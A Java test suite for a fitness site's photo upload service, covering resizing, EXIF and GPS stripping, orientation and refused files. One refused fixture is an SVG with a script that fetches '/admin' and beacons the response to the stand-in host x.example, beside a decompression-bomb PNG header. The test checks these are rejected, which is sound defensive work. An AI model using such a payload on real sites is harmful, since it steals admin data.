package org.corebalance.media;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.corebalance.CoreBalanceTest;
import org.corebalance.Http;
import org.corebalance.membership.StaffFixtures;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Uploading photos through {@link MediaApi}: what is stored, what is served, and what is refused. */
@CoreBalanceTest
class MediaUploadTests {

    @LocalServerPort
    int port;
    @Autowired
    MediaApi media;
    @Autowired
    MediaRepository repository;
    @Autowired
    StaffFixtures staff;
    @Autowired
    JdbcClient jdbc;

    @Test
    void aLargeJpegIsStoredAtEachResponsiveWidth() {
        long id = upload("studio.jpg", TestImages.jpeg(2400, 1600));

        assertThat(storedSizes(id)).containsExactly(Map.entry(480, 320), Map.entry(640, 427), Map.entry(800, 534),
                Map.entry(960, 640), Map.entry(1200, 800), Map.entry(1600, 1067));
        ResponsiveImage image = media.describe(id).orElseThrow();
        assertThat(image.width()).isEqualTo(1600);
        assertThat(image.height()).isEqualTo(1067);
        assertThat(image.srcset()).isEqualTo(("/media/%1$d/480.jpg 480w, /media/%1$d/640.jpg 640w, /media/%1$d/800.jpg 800w,"
                + " /media/%1$d/960.jpg 960w, /media/%1$d/1200.jpg 1200w, /media/%1$d/1600.jpg 1600w").formatted(id));

        // No article shows it yet, so the coach sees it and readers do not.
        var coach = Http.withCookies(port);
        coach.submit("/login", "/login", "email", staff.editor(), "password", StaffFixtures.PASSWORD);
        var served = coach.getBytes("/media/" + id + "/960.jpg");
        assertThat(served.statusCode()).isEqualTo(200);
        assertThat(served.headers().firstValue("Content-Type")).contains("image/jpeg");
        BufferedImage decoded = TestImages.read(served.body());
        assertThat(decoded.getWidth()).isEqualTo(960);
        assertThat(decoded.getHeight()).isEqualTo(640);
    }

    @Test
    void aPngNarrowerThanTheLargestWidthKeepsItsOwnWidth() {
        long id = upload("plank.png", TestImages.transparentPng(800, 600));

        assertThat(storedSizes(id)).containsExactly(Map.entry(480, 360), Map.entry(640, 480), Map.entry(800, 600));
        for (byte[] jpeg : storedBytes(id).values()) {
            assertThat(TestImages.segmentMarkers(jpeg)).doesNotContain(0xE1);
            TestImages.read(jpeg);
        }
    }

    @Test
    void aWebpIsStoredAsJpegWithItsPixels() {
        long id = upload("walk.webp", TestImages.webp(640, 360, 200, 40));

        assertThat(storedSizes(id)).containsExactly(Map.entry(480, 270), Map.entry(640, 360));
        BufferedImage full = TestImages.read(storedBytes(id).get(640));
        assertThat(closeTo(full.getRGB(20, 180), 0xC8FF28)).isTrue();
        assertThat(closeTo(full.getRGB(620, 180), 0xC80028)).isTrue();
    }

    @Test
    void noExifNorGpsPositionSurvivesInTheStoredVariants() {
        byte[] phonePhoto = TestImages.withExif(TestImages.jpeg(2000, 1500), 1);
        assertThat(TestImages.segmentMarkers(phonePhoto)).contains(0xE1);
        assertThat(TestImages.contains(phonePhoto, TestImages.GPS_TEXT)).isTrue();

        long id = upload("IMG_2041.JPG", phonePhoto);

        Map<Integer, byte[]> stored = storedBytes(id);
        assertThat(stored).containsOnlyKeys(480, 640, 800, 960, 1200, 1600);
        for (byte[] jpeg : stored.values()) {
            assertThat(TestImages.segmentMarkers(jpeg)).doesNotContain(0xE1);
            assertThat(TestImages.contains(jpeg, "Exif")).isFalse();
            assertThat(TestImages.contains(jpeg, TestImages.GPS_TEXT)).isFalse();
        }
    }

    @Test
    void aPhotoTakenUprightIsStoredUpright() {
        // The camera stored it lying on its side (1200 × 800) and said: turn a quarter clockwise.
        long id = upload("portrait.jpg", TestImages.withExif(TestImages.jpeg(1200, 800), 6));

        assertThat(storedSizes(id)).containsExactly(Map.entry(480, 720), Map.entry(640, 960), Map.entry(800, 1200));
        BufferedImage upright = TestImages.read(storedBytes(id).get(800));
        assertThat(isMarker(upright.getRGB(790, 10))).isTrue();
        assertThat(isMarker(upright.getRGB(10, 10))).isFalse();
    }

    @Test
    void refusedUploadsStoreNothing() {
        byte[] jpeg = TestImages.jpeg(1200, 800);
        Map<String, byte[]> refused = new LinkedHashMap<>();
        refused.put("notes.jpg", "Warm-up: 10 bridges, 2 × 30 s side plank\n".getBytes(StandardCharsets.UTF_8));
        refused.put("hero.svg", """
                <svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900">
                  <script>fetch('/admin').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t))</script>
                </svg>""".getBytes(StandardCharsets.UTF_8));
        refused.put("animated.gif", TestImages.gif(800, 600));
        refused.put("empty.jpg", new byte[0]);
        refused.put("huge.jpg", Arrays.copyOf(jpeg, 10 * 1024 * 1024 + 1));
        refused.put("bomb.png", TestImages.pngHeader(50_000, 50_000));
        refused.put("icon.png", TestImages.png(100, 100));
        refused.put("cut-off.jpg", Arrays.copyOf(jpeg, jpeg.length / 2));

        long assets = count("media_asset");
        long variants = count("media_variant");
        for (var file : refused.entrySet()) {
            assertThatThrownBy(() -> upload(file.getKey(), file.getValue())).as(file.getKey())
                    .isInstanceOf(ImageRejectedException.class)
                    .satisfies(e -> assertThat(e.getMessage()).matches("[A-Z].*\\.$"));
        }
        assertThat(count("media_asset")).isEqualTo(assets);
        assertThat(count("media_variant")).isEqualTo(variants);
    }

    @Test
    void illustrationsAreStillDrawnAtEveryWidth() {
        byte[] svg = """
                <svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900" viewBox="0 0 1600 900">
                  <rect width="1600" height="900" fill="#2a6f97"/>
                </svg>""".getBytes(StandardCharsets.UTF_8);
        long id = media.importIllustration("test-banner.svg", svg);

        assertThat(storedSizes(id)).containsExactly(Map.entry(480, 270), Map.entry(640, 360), Map.entry(800, 450),
                Map.entry(960, 540), Map.entry(1200, 675), Map.entry(1600, 900));
    }

    private long upload(String name, byte[] bytes) {
        return media.upload(name, new ByteArrayInputStream(bytes));
    }

    /** Width to height of each stored variant, narrowest first, each checked to be the JPEG it says. */
    private Map<Integer, Integer> storedSizes(long id) {
        Map<Integer, Integer> sizes = new LinkedHashMap<>();
        storedBytes(id).forEach((width, bytes) -> {
            BufferedImage image = TestImages.read(bytes);
            assertThat(image.getWidth()).isEqualTo(width);
            sizes.put(width, image.getHeight());
        });
        return sizes;
    }

    private Map<Integer, byte[]> storedBytes(long id) {
        List<Integer> widths = repository.find(id).orElseThrow().variantWidths();
        Map<Integer, byte[]> bytes = new LinkedHashMap<>();
        for (int width : widths) {
            MediaRepository.Variant variant = repository.findVariant(id, width).orElseThrow();
            assertThat(variant.contentType()).isEqualTo("image/jpeg");
            assertThat(ImageFormat.of(variant.bytes())).contains(ImageFormat.JPEG);
            bytes.put(width, variant.bytes());
        }
        return bytes;
    }

    private long count(String table) {
        return jdbc.sql("select count(*) from " + table).query(Long.class).single();
    }

    private static boolean closeTo(int rgb, int expected) {
        for (int shift = 0; shift <= 16; shift += 8) {
            if (Math.abs((rgb >> shift & 0xFF) - (expected >> shift & 0xFF)) > 12) {
                return false;
            }
        }
        return true;
    }

    private static boolean isMarker(int rgb) {
        return closeTo(rgb, TestImages.MARKER.getRGB() & 0xFFFFFF);
    }
}
